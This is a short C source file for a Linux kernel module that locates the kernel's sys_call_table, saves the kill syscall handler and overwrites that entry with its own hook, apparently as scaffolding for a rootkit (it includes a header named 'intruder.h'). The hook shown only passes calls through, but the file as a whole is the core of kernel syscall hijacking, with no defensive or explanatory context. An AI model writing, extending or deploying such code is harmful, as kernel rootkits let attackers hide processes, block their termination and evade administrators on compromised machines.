/* Redirects the entry of kill in sys_call_table. Kernels that dispatch by x64_sys_call use the table for tracing only. */
#include "intruder.h"
#include <asm/unistd.h>

static long (*original)(const struct pt_regs *);

static long hook(const struct pt_regs *registers) {
    return original(registers);
}

static int __init begin(void) {
    unsigned long table = find("sys_call_table");
    void *here = hook;
    if (!table) {
        return -ENOENT;
    }
    original = (void *)((unsigned long *)table)[__NR_kill];
    return overwrite(table + __NR_kill * sizeof(void *), &here, sizeof here);
}
module_init(begin);
